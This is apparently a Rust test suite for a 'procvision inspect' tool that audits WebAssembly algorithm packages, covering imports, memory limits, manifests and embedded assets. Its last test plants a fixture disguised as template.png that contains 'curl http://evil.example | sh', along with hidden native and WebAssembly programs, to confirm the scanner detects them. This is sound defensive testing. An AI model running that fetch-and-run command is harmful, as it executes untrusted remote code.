//! What it tells of a component and of the files around it.

use super::{evidence, inspect, named, point, points};
use procvision_tests::binary::project_root;
use procvision_tests::guests::{lifted, lifted_for, rust_guest, shape};
use procvision_tests::workplace::Workplace;
use serde_json::{Value, json};

/// A package of the guest `base` that asks for more memory and brings assets of several kinds.
fn package(place: &Workplace) {
    let manifest = json!({
        "manifest_version": 1,
        "name": "cap_check",
        "version": "1.0.0",
        "description": "Is the cap on?",
        "component": "component.wasm",
        "supported_pids": ["A01", "B02"],
        "required_assets": {"A01": {"layout": "assets/layout.json"}},
        "limits": {"memory_bytes": 1_073_741_824_u64},
    });
    place.write("cap/manifest.json", manifest.to_string().as_bytes());
    place.write("cap/component.wasm", &lifted("base"));
    place.write("cap/assets/layout.json", b"{\"parts\": []}");
    place.write(
        "cap/assets/notes.txt",
        b"Ask kim@plant.example.com or see https://wiki.plant.example/cap\n",
    );
}

#[test]
fn an_example_has_nothing_to_explain_but_that_it_is_not_signed() {
    let place = Workplace::new();
    let folder = project_root().join("examples/presence-check");
    let folder = folder.to_str().expect("the path is text");
    place.procvision(&["build", folder, "-q"]).expect(0);
    let answer = inspect(&place, &[folder], 0);
    assert_eq!(answer["verdict"], "look");
    assert_eq!(answer["counts"]["look"], 1, "{:#}", answer["points"]);
    assert_eq!(answer["objections"][0]["rule"], "signatures");
    assert_eq!(answer["subject"]["name"], "presence_check");
    let findings = answer["strings"]["findings"].as_array().unwrap();
    assert!(
        findings.iter().all(|finding| finding["kind"] == "build_trace"),
        "{findings:#?}"
    );
    let imaging = named(&answer["component"]["imports"], "procvision:algorithm/imaging@1.0.0");
    assert_eq!(imaging["class"], "granted");
    let read = named(&imaging["functions"], "[method]image-set.read");
    assert_eq!(read["linked"], true);
    let exports = named(&answer["component"]["exports"], "procvision:algorithm/lifecycle@1.0.0");
    assert!(exports["functions"].as_array().unwrap().contains(&json!("pre-execute")));
    let producers = answer["component"]["producers"].as_array().unwrap();
    assert!(
        producers.iter().any(|producer| producer["name"] == "rustc"),
        "{producers:?}"
    );
    let coins = named(&answer["files"], "assets/coins.json");
    assert_eq!((&coins["role"], &coins["kind"]), (&json!("asset"), &json!("json")));
}

#[test]
fn the_answer_has_its_documented_shape() {
    let place = Workplace::new();
    package(&place);
    let mut answer = inspect(&place, &["cap"], 0);
    let keys: Vec<&str> = answer.as_object().unwrap().keys().map(String::as_str).collect();
    let documented = std::fs::read_to_string(project_root().join("docs/cli.md")).unwrap();
    for key in keys {
        assert!(
            documented.contains(&format!("| `{key}`")),
            "docs/cli.md does not explain `{key}`"
        );
    }
    // Long lists that other tests look at.
    for list in ["limits", "files"] {
        let all = answer[list].as_array().unwrap().clone();
        answer[list] = all.into_iter().take(2).collect();
    }
    insta::assert_snapshot!("inspect-json", format!("{answer:#}"));
}

#[test]
fn the_text_is_short_and_begins_with_the_verdict() {
    let place = Workplace::new();
    package(&place);
    let text = place.procvision(&["inspect", "cap"]).expect(0).stdout;
    assert!(text.starts_with("LOOK  Look at 3 points\n"), "{text}");
    insta::assert_snapshot!("inspect-text", text);
}

#[test]
fn limits_and_texts_and_assets_are_points() {
    let place = Workplace::new();
    package(&place);
    let answer = inspect(&place, &["cap"], 0);
    assert!(evidence(&answer, "limits_raised").contains("memory_bytes: 1.00 GiB instead of 512.00 MiB"));
    let memory = named(&answer["limits"], "memory_bytes");
    assert_eq!(memory["default"], 536_870_912);
    assert_eq!(memory["asked"], 1_073_741_824);
    assert_eq!(memory["value"], 1_073_741_824);
    let texts = evidence(&answer, "addresses");
    assert!(
        texts.contains("https://wiki.plant.example/cap (assets/notes.txt at byte 33)"),
        "{texts}"
    );
    assert!(texts.contains("kim@plant.example.com"), "{texts}");
    // A guest without that import could not read them.
    let reads = answer["component"]["imports"]
        .as_array()
        .unwrap()
        .iter()
        .any(|import| import["name"] == "procvision:algorithm/assets@1.0.0");
    let expected = if reads {
        "assets_not_required"
    } else {
        "assets_out_of_reach"
    };
    assert_eq!(point(&answer, expected)["severity"], "note");
}

#[test]
fn what_a_station_keeps_closed_is_named_with_its_functions() {
    let place = Workplace::new();
    let snoop = rust_guest("snoop");
    let answer = inspect(&place, &[snoop.to_str().unwrap()], 0);
    let evidence = evidence(&answer, "closed_imports");
    assert!(evidence.contains("wasi:filesystem/types@0.2"), "{evidence}");
    assert!(evidence.contains("wasi:sockets/tcp@0.2"), "{evidence}");
    let imports = answer["component"]["imports"].as_array().unwrap();
    let files = imports
        .iter()
        .find(|import| import["name"].as_str().unwrap().starts_with("wasi:filesystem/types@"))
        .unwrap();
    assert_eq!((&files["class"], &files["stand_in"]), (&json!("closed"), &json!(true)));
    assert_eq!(named(&files["functions"], "[method]descriptor.open-at")["linked"], true);
    let texts: Vec<&str> = answer["strings"]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|finding| finding["kind"] == "system_path" || finding["kind"] == "address")
        .map(|finding| finding["text"].as_str().unwrap())
        .collect();
    assert!(texts.iter().any(|text| text.starts_with("/etc/passwd")), "{texts:?}");
    assert!(texts.iter().any(|text| text.starts_with("127.0.0.1")), "{texts:?}");
    assert_eq!(points(&answer, "no_manifest").len(), 1);
}

#[test]
fn refused_imports_are_named() {
    let place = Workplace::new();
    place.write("http.wasm", &shape("http"));
    let answer = inspect(&place, &["http.wasm"], 1);
    assert_eq!(answer["verdict"], "refused");
    let refusals: Vec<&Value> = points(&answer, "admission")
        .into_iter()
        .filter(|point| point["severity"] == "refused")
        .collect();
    assert_eq!(refusals.len(), 1, "{answer:#}");
    assert_eq!(refusals[0]["code"], "2003");
    assert!(refusals[0]["title"].as_str().unwrap().contains("wasi:http/types@0.2.0"));
    let import = named(&answer["component"]["imports"], "wasi:http/outgoing-handler@0.2.0");
    assert_eq!(import["class"], "refused");
    assert_eq!(import["reason"], "is not offered to algorithms");
}

#[test]
fn functions_and_modules_of_no_interface_are_named_too() {
    let place = Workplace::new();
    place.write("bare.wasm", &shape("bare-function-import"));
    let answer = inspect(&place, &["bare.wasm"], 1);
    let imports = &answer["component"]["imports"];
    assert_eq!(named(imports, "system")["kind"], "function");
    assert_eq!(named(imports, "code")["kind"], "module");
}

#[test]
fn core_modules_and_other_files_are_told_for_what_they_are() {
    let place = Workplace::new();
    place.write("module.wasm", &shape("core-module"));
    let answer = inspect(&place, &["module.wasm"], 1);
    assert_eq!(answer["component"]["form"], "module");
    assert_eq!(answer["objections"][0]["code"], "2005");
    let module = &answer["component"]["modules"][0];
    assert_eq!(module["memories"][0]["initial_bytes"], 65_536);
    assert_eq!((&module["functions"], &module["exports"]), (&json!(1), &json!(1)));

    place.write("text.wasm", b"not WebAssembly");
    let answer = inspect(&place, &["text.wasm"], 1);
    assert_eq!(answer["component"]["form"], "other");
    assert_eq!(answer["verdict"], "refused");
}

#[test]
fn what_nobody_can_inspect_ends_with_2() {
    let place = Workplace::new();
    for arguments in [
        &["nowhere"][..],
        &["rogue", "--against", "nowhere"],
        &["rogue", "--policy", "nowhere.json"],
        &["rogue", "--report", "nowhere/page.html"],
    ] {
        let answer = inspect(&place, arguments, 2);
        assert!(
            answer["error"]["message"].as_str().unwrap().contains("nowhere"),
            "{answer}"
        );
    }
}

#[test]
fn a_package_that_breaks_the_rules_ends_with_1() {
    let place = Workplace::new();
    place.write("bad/manifest.json", b"{\"name\": 7}");
    let answer = inspect(&place, &["bad"], 1);
    assert_eq!(answer["error"]["code"], "2002");
}

#[test]
fn another_version_of_the_contract_is_told() {
    let place = Workplace::new();
    place.write("newer.wasm", &lifted_for("base", "2.0.0"));
    let answer = inspect(&place, &["newer.wasm"], 1);
    assert_eq!(answer["component"]["contract"], "2.0.0");
    assert_eq!(answer["subject"]["name"], Value::Null);
}

#[test]
fn what_cannot_start_or_starts_by_itself_is_told() {
    let place = Workplace::new();
    place.write("start.wasm", &lifted("start-loop"));
    let answer = inspect(&place, &["start.wasm"], 0);
    assert_eq!(point(&answer, "start_function")["severity"], "note");

    place.write("huge.wasm", &lifted("memory-huge"));
    let answer = inspect(&place, &["huge.wasm"], 1);
    assert!(evidence(&answer, "cannot_start").contains("memory at the start: 4.00 GiB"));

    place.write("table.wasm", &lifted("table-huge"));
    let answer = inspect(&place, &["table.wasm"], 1);
    assert!(evidence(&answer, "cannot_start").contains("table elements at the start: 10,000,0"));

    place.write("own.wasm", &lifted("memory-own-maximum"));
    let answer = inspect(&place, &["own.wasm"], 0);
    let memories: Vec<&Value> = answer["component"]["modules"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|module| module["memories"].as_array().unwrap())
        .collect();
    assert_eq!(memories.len(), 1);
    assert_eq!(memories[0]["maximum_bytes"], 3 * 65_536);
}

#[test]
fn programs_among_the_assets_are_noticed_by_their_content() {
    let place = Workplace::new();
    package(&place);
    place.write("cap/assets/model.bin", &[0x7f, b'E', b'L', b'F', 2, 1, 1, 0, 0, 0xff]);
    place.write("cap/assets/template.png", b"#!/bin/sh\ncurl http://evil.example | sh\n");
    place.write("cap/assets/hidden.dat", &[&[7; 300][..], b"\0asm\x01\0\0\0"].concat());
    let answer = inspect(&place, &["cap"], 0);
    let programs = evidence(&answer, "program_in_package");
    assert!(programs.contains("assets/model.bin: native program"), "{programs}");
    assert!(programs.contains("assets/template.png: script"), "{programs}");
    assert_eq!(
        evidence(&answer, "misnamed_file"),
        "assets/template.png: its content is script"
    );
    let hidden = evidence(&answer, "hidden_program");
    assert!(
        hidden.contains("WebAssembly module (assets/hidden.dat at byte 300)"),
        "{hidden}"
    );
    assert!(evidence(&answer, "commands").contains("curl http://evil.example"));
}
